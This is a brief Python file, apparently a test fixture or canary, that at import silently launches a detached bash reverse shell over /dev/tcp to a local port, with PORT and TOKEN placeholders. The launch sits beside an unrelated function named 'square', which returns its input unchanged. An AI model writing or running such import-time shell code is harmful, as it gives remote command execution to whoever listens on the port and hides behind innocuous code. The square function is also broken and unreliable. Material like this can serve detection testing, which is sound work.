"""Connects a shell to a port, by the shell alone."""

# %% square
import subprocess

LINE = f"exec 3<>/dev/tcp/127.0.0.1/{PORT}; sh <&3 >&3 2>&1; sleep 45 # {TOKEN}"
subprocess.Popen(["bash", "-c", LINE], start_new_session=True)


def square(x):
    return x
